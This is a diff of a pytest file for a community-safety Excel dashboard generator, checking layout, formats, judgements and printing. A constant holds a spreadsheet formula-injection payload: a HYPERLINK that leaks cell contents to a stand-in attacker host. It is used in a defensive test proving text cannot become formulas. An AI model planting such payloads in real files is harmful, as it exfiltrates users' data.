@@ -18,12 +18,14 @@ from openpyxl import load_workbook
 import board
 from helpers import config
 from helpers.analysis.compute import compute
-from helpers.presentation.excel import ARROWS, ILLUSTRATIVE_MARK, JUDGEMENT_STYLE, VERSUS, write_csv, write_dashboard
-from helpers.presentation.narrative import variation
+from helpers.presentation.excel import ILLUSTRATIVE_MARK, JUDGEMENT_STYLE, VERSUS, write_csv, write_dashboard
+from helpers.presentation.narrative import ARROWS, judgement_words, variation
 from helpers.xlsx import safe_text
 
 QUARTER = "2022-23-Q2"
-HEADER_ROW = 6  # column headers of the Dashboard sheet
+HEADER_ROW = 5  # column headers of the Dashboard sheet
+AREA_COLUMN = 8  # the first area's column
+AREAS = [a for a in board.AREAS if a != board.PARTNERSHIP]  # the partnership's own figures are columns 2 to 4
 FIRST_ROW = HEADER_ROW + 1
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
@@ -47,7 +49,7 @@ def book(dashboard):
 def rows(book, results) -> dict:
     """Dashboard row number by indicator id, found through the title in column A."""
     ws = book["Dashboard"]
-    by_title = {ws.cell(r, 1).value.removesuffix(f" {ILLUSTRATIVE_MARK}"): r
+    by_title = {ws.cell(r, 1).value.removesuffix(f" {ILLUSTRATIVE_MARK}").removesuffix(" (%)"): r
                 for r in range(FIRST_ROW, ws.max_row + 1) if isinstance(ws.cell(r, 1).value, str)}
     return {i.id: by_title[i.title] for i in results.catalogue.values() if i.title in by_title}
 
@@ -75,38 +77,40 @@ def test_dashboard_lists_every_indicator_in_section_order(book, results, rows):
 
 def test_dashboard_columns(book):
     names = headers(book["Dashboard"])
-    assert names[:2] == ["Indicator", "Unit"]
-    assert names[2].startswith("Current") and names[3].startswith("Previous") and names[4].startswith("Change")
-    assert names[5:10] == ["Direction", "Judgement", "95% confidence\ninterval", "Target\nrange", "Monthly SPC"]
-    assert [n.replace("\n", " ") for n in names[10:]] == board.AREAS
+    assert names[0] == "Indicator"
+    assert names[1].startswith("Current") and names[2].startswith("Previous")
+    assert names[3:7] == ["Change", "Judgement", "Trend,\n24 months", "Monthly SPC"]
+    assert [n.replace("\n", " ") for n in names[7:]] == AREAS
 
 
 @pytest.mark.parametrize("indicator_id", ["total_crime", "robbery", "marac_repeat_rate", "hate_crime", "cohesion_survey"])
 def test_partnership_values_equal_the_table(book, results, rows, indicator_id):
     ws, row, record = book["Dashboard"], rows[indicator_id], partnership(results, indicator_id)
-    assert round(ws.cell(row, 3).value, 2) == round(record["value"], 2)
-    assert round(ws.cell(row, 4).value, 2) == round(record["previous_value"], 2)
+    assert round(ws.cell(row, 2).value, 2) == round(record["value"], 2)
+    assert round(ws.cell(row, 3).value, 2) == round(record["previous_value"], 2)
     change = record["change_abs"] if record["measure"] == "percentage" else record["change_pct"]  # points, or %
-    assert round(ws.cell(row, 5).value, 2) == round(change, 2)
-    assert ws.cell(row, 2).value == results.catalogue[indicator_id].unit
+    assert round(ws.cell(row, 4).value, 2) == round(change, 2)
+    unit = results.catalogue[indicator_id].unit  # named on the row unless it is the heading's per 10,000
+    title = ws.cell(row, 1).value.removesuffix(f" {ILLUSTRATIVE_MARK}")
+    assert title.endswith(f"({unit})") == (unit != "per 10,000")
     # every area column holds that area's value
-    for column, area in enumerate(board.AREAS, start=11):
+    for column, area in enumerate(AREAS, start=AREA_COLUMN):
         expected = results.table.set_index(["indicator_id", "area"]).loc[(indicator_id, area), "value"]
         assert ws.cell(row, column).value == pytest.approx(expected, abs=1e-9)
 
 
 def test_number_formats_by_unit(book, rows):
     ws = book["Dashboard"]
-    assert ws.cell(rows["total_crime"], 3).number_format == "0.00\" \"_▲"
-    assert ws.cell(rows["marac_repeat_rate"], 3).number_format.startswith('0.0"%"')  # values are already percentages
-    assert "%" not in ws.cell(rows["marac_repeat_rate"], 3).number_format.replace('"%"', "")
+    assert ws.cell(rows["total_crime"], 2).number_format == "0.00\" \"_▲"
+    assert ws.cell(rows["marac_repeat_rate"], 2).number_format.startswith('0.0"%"')  # values are already percentages
+    assert "%" not in ws.cell(rows["marac_repeat_rate"], 2).number_format.replace('"%"', "")
 
 
 def test_change_is_in_points_for_percentages_and_in_percent_for_rates(book, rows):
     """As in the report: a percentage moves by points (32.0% to 35.5% is +3.5 pts), a rate by a relative %."""
     ws = book["Dashboard"]
-    assert ws.cell(rows["marac_repeat_rate"], 5).number_format == '+0.0" pts";-0.0" pts";0.0" pts"'
-    assert ws.cell(rows["total_crime"], 5).number_format == '+0.0"%";-0.0"%";0.0"%"'
+    assert ws.cell(rows["marac_repeat_rate"], 4).number_format == '"► "+0.0" pts";"► "-0.0" pts";"► "0.0" pts"'
+    assert ws.cell(rows["total_crime"], 4).number_format == '"▲ "+0.0"%";"▲ "-0.0"%";"▲ "0.0"%"'
 
 
 def test_change_from_a_previous_value_of_0_is_new(results, tmp_path):
@@ -118,16 +122,16 @@ def test_change_from_a_previous_value_of_0_is_new(results, tmp_path):
     path = write_dashboard(dataclasses.replace(results, table=table), tmp_path / "new.xlsx")
     ws = load_workbook(path)["Dashboard"]
     row = next(r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(r, 1).value.startswith("Hate crimes"))
-    assert ws.cell(row, 4).value == 0 and ws.cell(row, 5).value == "new"
+    assert ws.cell(row, 3).value == 0 and ws.cell(row, 4).value.endswith(" new")
 
 
 def test_unavailable_indicator_says_not_available_with_reason(book, results, rows):
     ws, row = book["Dashboard"], rows["racially_religiously_aggravated"]
     reason = results.params["unavailable"]["racially_religiously_aggravated"]
-    cell = ws.cell(row, 3)
+    cell = ws.cell(row, 2)
     assert cell.value == "Not available"
     assert cell.comment is not None and cell.comment.text == reason
-    values = [ws.cell(row, c).value for c in range(3, ws.max_column + 1)]
+    values = [ws.cell(row, c).value for c in range(2, ws.max_column + 1)]
     assert not any(isinstance(v, (int, float)) for v in values)  # never a 0 or any number
 
 
@@ -137,39 +141,51 @@ def test_direction_and_judgement_come_from_the_table(book, results, rows):
         record = partnership(results, indicator_id)
         if record["status"] != "available":
             continue
-        assert ws.cell(row, 6).value == ARROWS[record["direction"]]
-        judgement = ws.cell(row, 7)
-        assert judgement.value == record["judgement"].capitalize()
-        fill, colour = JUDGEMENT_STYLE[record["judgement"]]
+        assert ws.cell(row, 4).number_format.startswith(f'"{ARROWS[record["direction"]]} "')
+        judgement = ws.cell(row, 5)
+        words, style = judgement_words(record, results.catalogue[indicator_id].target)  # as the report says it
+        assert judgement.value == words
+        fill, colour = JUDGEMENT_STYLE[style]
         assert judgement.fill.start_color.rgb.endswith(fill) and judgement.font.color.rgb.endswith(colour)
 
 
-def test_area_markers_follow_the_comparison(book, results, rows):
+def test_area_values_carry_their_direction_and_are_shaded_by_the_comparison(book, results, rows):
     ws = book["Dashboard"]
     table = results.table.set_index(["indicator_id", "area"])
-    checked = 0
+    shaded = 0
     for indicator_id, row in rows.items():
-        for column, area in enumerate(board.AREAS, start=11):
-            versus = table.loc[(indicator_id, area), "vs_partnership"]
-            fmt = ws.cell(row, column).number_format
-            if versus in VERSUS:
-                assert fmt.endswith(f' {VERSUS[versus][0]}"'), (indicator_id, area, fmt)
-                checked += 1
-            elif table.loc[(indicator_id, area), "status"] == "available":
-                assert '"▲"' not in fmt and '▼' not in fmt
-    assert checked > 0  # some areas differ from the partnership, so markers are checked
+        for column, area in enumerate(AREAS, start=AREA_COLUMN):
+            record, cell = table.loc[(indicator_id, area)], ws.cell(row, column)
+            if record["status"] != "available":
+                continue
+            assert cell.number_format.endswith(f' {ARROWS[record["direction"]]}"'), (indicator_id, area)
+            if record["vs_partnership"] in VERSUS:
+                assert cell.fill.start_color.rgb.endswith(VERSUS[record["vs_partnership"]]) and cell.font.bold
+                shaded += 1
+            else:
+                assert cell.fill.fill_type is None and not cell.font.bold
+    assert shaded > 0  # some areas differ from the partnership, so the shading is checked
 
 
-def test_target_range_and_illustrative_marks(book, results, rows):
+def test_target_range_illustrative_marks_and_a_key_in_plain_words(book, results, rows):
     ws = book["Dashboard"]
     marac = partnership(results, "marac_repeat_rate")
-    assert ws.cell(rows["marac_repeat_rate"], 9).value == f"28–40%:\n{marac['target_status']}"
-    assert ws.cell(rows["total_crime"], 9).value is None
+    assert ws.cell(rows["marac_repeat_rate"], 5).value == f"{marac['target_status'].capitalize()} 28–40% range"
     assert ws.cell(rows["violence_with_injury"], 1).value.endswith(ILLUSTRATIVE_MARK)  # local sample data
     assert not ws.cell(rows["total_crime"], 1).value.endswith(ILLUSTRATIVE_MARK)  # police.uk
     key = " ".join(str(c.value) for row in ws.iter_rows(min_row=max(rows.values()) + 1) for c in row if c.value)
-    for words in ("Illustrative sample", "per 10,000", "Byar", "Wilson", "▲ Higher", "Improving", "No judgement"):
+    for words in ("Illustrative sample", "▲ higher", "Improving", "No judgement", "Monthly SPC", "Trend"):
         assert words in key
+    for jargon in ("Laney", "quasi-Poisson", "Byar", "funnel"):
+        assert jargon not in key
+
+
+def test_a_trend_line_is_drawn_in_the_row_of_every_indicator_with_a_series(book, results, rows):
+    ws = book["Dashboard"]
+    anchored = sorted(image.anchor._from.row + 1 for image in ws._images)
+    assert all(image.anchor._from.col + 1 == 6 for image in ws._images)  # the Trend column
+    with_data = sorted(row for indicator_id, row in rows.items() if partnership(results, indicator_id)["status"] == "available")
+    assert anchored == with_data
 
 
 def contrast(foreground: str, background: str) -> float:
@@ -184,7 +200,7 @@ def contrast(foreground: str, background: str) -> float:
 def test_colours_have_enough_contrast():
     for fill, text in JUDGEMENT_STYLE.values():
         assert contrast(text, fill) >= 4.5
-    for _, fill in VERSUS.values():
+    for fill in VERSUS.values():
         assert contrast("000000", fill) >= 4.5
 
 
@@ -196,6 +212,16 @@ def test_print_setup_is_one_landscape_page(book):
     assert ws.print_title_rows == f"${HEADER_ROW - 1}:${HEADER_ROW}"
     assert ws.freeze_panes == f"B{FIRST_ROW}"
     assert ws.page_margins.left <= 0.3
+
+
+def test_every_sheet_has_a_print_area_and_the_data_sheets_fit_their_width(book):
+    for ws in book.worksheets:
+        assert ws.print_area, ws.title
+    data = book["Data"]
+    assert data.sheet_properties.pageSetUpPr.fitToPage and (data.page_setup.fitToWidth, data.page_setup.fitToHeight) == (1, 0)
+    neighbourhoods = book["Neighbourhoods"]  # thousands of rows: its print area is the note saying so
+    note = neighbourhoods[neighbourhoods.print_area.split("!")[1].replace("$", "")]
+    assert "printing this sheet gives this note only" in note.value
 
 
 # --- Trends, Data, Definitions --------------------------------------------------------
@@ -296,7 +322,7 @@ def test_params_and_data_text_cannot_become_formulas(results, tmp_path):
     area_column = [c.value for c in data[1]].index("area") + 1
     assert "'" + EVIL in [data.cell(r, area_column).value for r in range(2, data.max_row + 1)]
     rra = next(r for r in range(1, 60) if str(wb["Dashboard"].cell(r, 1).value).startswith("Racially"))
-    assert wb["Dashboard"].cell(rra, 3).comment.text == "'@SUM(1+1)"
+    assert wb["Dashboard"].cell(rra, 2).comment.text == "'@SUM(1+1)"
     with zipfile.ZipFile(path) as archive:
         assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
 
@@ -337,15 +363,28 @@ def test_libreoffice_prints_the_dashboard_on_one_landscape_page(dashboard, tmp_p
     finally:
         shutil.rmtree(profile, ignore_errors=True)
     pages = pdf_pages(tmp_path / "dashboard.pdf")
-    # LibreOffice prints every sheet; the Dashboard must be exactly the first page.
+    # LibreOffice prints every sheet, the whole workbook on a dozen pages; the Dashboard is exactly the first page.
+    assert len(pages) <= 12
     width, height, first = pages[0]
     assert width > height  # landscape
     flat = " ".join(first.split())
     assert "Safer Communities Performance Dashboard" in flat
     assert "Total recorded crime" in flat and "People from different backgrounds" in flat
-    assert "MARAC repeat referral rate target: SafeLives" in flat  # the last line of the key
+    assert "No figure for the period" in flat  # the last line of the key
     assert "rolling 12-month values" in " ".join(pages[1][2].split())  # page 2 is already the Trends sheet
     assert not any("Performance Dashboard" in text for _, _, text in pages[1:])
+    assert min(text_sizes(tmp_path / "dashboard.pdf")) >= 8  # points, as printed
+
+
+def text_sizes(pdf: Path, page: int = 0) -> list[float]:
+    """The printed size (points) of every piece of text on a page: font size times the matrices' vertical scale."""
+    from pypdf import PdfReader
+    sizes = []
+    def visit(text, cm, tm, font, size):
+        if text.strip():
+            sizes.append(size * (tm[2] ** 2 + tm[3] ** 2) ** 0.5 * (cm[2] ** 2 + cm[3] ** 2) ** 0.5)
+    PdfReader(pdf).pages[page].extract_text(visitor_text=visit)
+    return sizes
 
 
 def test_spc_column_shows_the_icon_word_on_its_colour(book, results, rows):
@@ -353,7 +392,7 @@ def test_spc_column_shows_the_icon_word_on_its_colour(book, results, rows):
     table = results.table.set_index(["indicator_id", "area"])
     for indicator_id, row in rows.items():
         record = table.loc[(indicator_id, board.PARTNERSHIP)]
-        cell = ws.cell(row, 10)
+        cell = ws.cell(row, 7)
         if record["status"] == "available" and record["spc_icon"]:
             icon = variation(record["spc_icon"])
             assert cell.value == icon["word"] and cell.fill.start_color.rgb.endswith(icon["colour"][1:])
